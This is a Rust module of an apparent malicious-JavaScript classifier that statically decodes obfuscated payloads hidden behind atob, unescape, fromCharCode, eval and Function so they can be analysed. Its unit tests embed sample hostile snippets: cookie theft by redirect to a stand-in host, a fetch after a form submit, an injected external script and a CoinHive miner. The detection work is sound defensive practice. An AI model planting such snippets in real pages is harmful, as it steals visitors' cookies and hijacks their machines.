//! Code a script decodes from its own constants at run time: `eval(atob("…"))`,
//! `document.write(unescape("%3Cscript…"))`, `String.fromCharCode(118, 97, 114, …)`, a constant
//! string handed to `Function` or a string timer. Droppers and skimmers hide their real code
//! this way; the classifier analyzes each payload as a view of its own (see `classify.rs`).
//!
//! Only constants are decoded (no evaluation): what the cheap resolver of `capabilities.rs`
//! can see, string-array entries included.

use base64::Engine;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use oxc_ast::AstKind;
use oxc_ast::ast::{Argument, Expression};

use crate::resolve::Resolver;

/// Payloads kept per script.
pub(crate) const MAX_PAYLOADS: usize = 8;
/// Decoded bytes kept per script.
pub(crate) const MAX_PAYLOAD_BYTES: usize = 1 << 20;
/// Shortest decoded text worth analyzing as code.
const MIN_PAYLOAD: usize = 24;
/// Fewest numeric arguments of `String.fromCharCode` treated as a hidden string (short calls
/// build single characters, as every text library does).
const MIN_CHARCODES: usize = 8;

/// Browsers' `atob` ignores padding; so does this.
const BASE64: GeneralPurpose = GeneralPurpose::new(
    &base64::alphabet::STANDARD,
    GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent),
);

/// The decoded payloads of one script, in source order, within the limits above; gathered
/// node by node (see `walk.rs`).
#[derive(Default)]
pub(crate) struct Collector {
    out: Vec<String>,
    bytes: usize,
    full: bool,
}

impl Collector {
    // Inlined into the walk: it runs for every node, and a call (its register saves and
    // restores) cost more than most nodes' work here (callgrind, BENCHMARKS.md).
    #[inline(always)]
    pub(crate) fn node<'a>(&mut self, kind: &AstKind<'a>, resolve: &Resolver<'_, 'a>) {
        if self.full {
            return;
        }
        let decoded = match kind {
            AstKind::CallExpression(call) => {
                decode_call(resolve.callee_name(&call.callee), &call.arguments, resolve)
            }
            AstKind::NewExpression(new) if resolve.callee_name(&new.callee) == Some("Function") => {
                last_string(&new.arguments, resolve).map(str::to_string)
            }
            _ => None,
        };
        let Some(text) = decoded.map(markup_to_code) else {
            return;
        };
        if text.len() < MIN_PAYLOAD || self.out.contains(&text) {
            return;
        }
        if self.bytes + text.len() > MAX_PAYLOAD_BYTES {
            self.full = true;
            return;
        }
        self.bytes += text.len();
        self.out.push(text);
        self.full = self.out.len() == MAX_PAYLOADS;
    }

    pub(crate) fn finish(self) -> Vec<String> {
        self.out
    }
}

/// A payload that is markup (`document.write(unescape("%3Cscript…"))`) becomes the code of
/// its inline scripts, one after the other; other text stays as it is.
fn markup_to_code(text: String) -> String {
    if !text.trim_start().starts_with('<') {
        return text;
    }
    match crate::html::extract_scripts(text.as_bytes()) {
        Some(scripts) => scripts
            .iter()
            .filter(|s| s.is_javascript() && !s.text.trim().is_empty())
            .map(|s| s.text.as_str())
            .collect::<Vec<_>>()
            .join("\n;\n"),
        None => String::new(),
    }
}

fn last_string<'a>(args: &[Argument<'a>], resolve: &Resolver<'_, 'a>) -> Option<&'a str> {
    resolve.const_string(args.last()?.as_expression()?)
}

fn decode_call<'a>(
    name: Option<&str>,
    args: &[Argument<'a>],
    resolve: &Resolver<'_, 'a>,
) -> Option<String> {
    match name? {
        "atob" => atob(resolve.first_string(args)?),
        "unescape" | "decodeURIComponent" | "decodeURI" => {
            let s = resolve.first_string(args)?;
            s.contains('%').then(|| unescape(s))
        }
        "fromCharCode" => from_char_codes(args),
        "eval" | "setTimeout" | "setInterval" | "execScript" => {
            resolve.first_string(args).map(str::to_string)
        }
        "Function" => last_string(args, resolve).map(str::to_string),
        _ => None,
    }
}

/// `atob`: whitespace ignored, padding optional; text only (binary payloads are not code).
fn atob(s: &str) -> Option<String> {
    let compact: String = s.chars().filter(|c| !c.is_ascii_whitespace()).collect();
    let bytes = BASE64.decode(compact.trim_end_matches('=')).ok()?;
    String::from_utf8(bytes).ok()
}

/// `unescape` / `decodeURIComponent`: `%XX` bytes (as UTF-8 where they form it, else Latin-1)
/// and `%uXXXX` code units; anything malformed stays as written.
fn unescape(s: &str) -> String {
    let b = s.as_bytes();
    let hex = |i: usize, n: usize| -> Option<u32> {
        let digits = s.get(i..i + n)?;
        u32::from_str_radix(digits, 16).ok()
    };
    let mut bytes: Vec<u8> = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' {
            if b.get(i + 1) == Some(&b'u')
                && let Some(unit) = hex(i + 2, 4)
            {
                let c = char::from_u32(unit).unwrap_or(char::REPLACEMENT_CHARACTER);
                bytes.extend_from_slice(c.encode_utf8(&mut [0; 4]).as_bytes());
                i += 6;
                continue;
            }
            if let Some(byte) = hex(i + 1, 2) {
                bytes.push(byte as u8);
                i += 3;
                continue;
            }
        }
        bytes.push(b[i]);
        i += 1;
    }
    String::from_utf8(bytes)
        .unwrap_or_else(|e| e.into_bytes().iter().map(|&b| char::from(b)).collect())
}

/// `String.fromCharCode(118, 97, 114, …)` with numeric literals only.
fn from_char_codes(args: &[Argument<'_>]) -> Option<String> {
    if args.len() < MIN_CHARCODES {
        return None;
    }
    args.iter()
        .map(|a| match a.as_expression()?.without_parentheses() {
            Expression::NumericLiteral(n) if n.value >= 0.0 && n.value < 65536.0 => {
                char::from_u32(n.value as u32)
            }
            _ => None,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn decode(source: &str) -> Vec<String> {
        let options = crate::Options {
            features: true,
            ..crate::Options::default()
        };
        crate::analyze(source, &options).payloads
    }

    #[test]
    fn constants_handed_to_decoders_and_eval_are_payloads() {
        let hidden = "document.forms[0].submit(); fetch('//x.example/c')";
        let b64 = BASE64.encode(hidden);
        let got = decode(&format!(
            "eval(atob('{}'));\n\
             document.write(unescape('%3Cscript%20src%3D%22//y.example/a.js%22%3E%3C/script%3E'));\n\
             var s = String.fromCharCode(118, 97, 114, 32, 97, 32, 61, 32, 49, 59, 32, 97, 43, 43, 59, 32, 118, 97, 114, 32, 98, 32, 61, 32, 50, 59);\n\
             setTimeout('window.location = \"https://z.example/\" + document.cookie', 10);\n\
             new Function('a', 'return a + document.cookie + navigator.userAgent;');\n\
             var short = String.fromCharCode(65, 66);",
            b64.trim_end_matches('=')
        ));
        assert_eq!(got[0], hidden, "atob without its padding");
        // Markup decodes to the code of its inline scripts (none here: only an external one).
        assert_eq!(got[1], "var a = 1; a++; var b = 2;");
        assert!(got[2].starts_with("window.location"));
        assert!(got[3].starts_with("return a + document.cookie"));
        assert_eq!(got.len(), 4, "two char codes are not a payload: {got:?}");
    }

    #[test]
    fn markup_payloads_become_their_inline_code() {
        let got = decode(
            "document.write(unescape('%3Cscript%20src%3D%22https%3A//x.example/s.js%22%3E%3C/script%3E%0A%3Cscript%3Evar%20miner%20%3D%20new%20CoinHive.User%28%27k%27%29%3B%20miner.start%28%29%3B%3C/script%3E'));",
        );
        assert_eq!(got, ["var miner = new CoinHive.User('k'); miner.start();"]);
    }

    #[test]
    fn malformed_escapes_stay_as_written_and_limits_hold() {
        assert_eq!(unescape("%u0041%zz%4"), "A%zz%4");
        assert_eq!(unescape("caf%C3%A9 %E9"), "caf\u{c3}\u{a9} \u{e9}");
        assert_eq!(unescape("caf%C3%A9"), "café");
        let many: String = (0..20)
            .map(|i| format!("eval('var v{i} = document.cookie + location.href;');"))
            .collect();
        assert_eq!(decode(&many).len(), MAX_PAYLOADS);
        assert!(atob("!!!not base64!!!").is_none());
    }
}
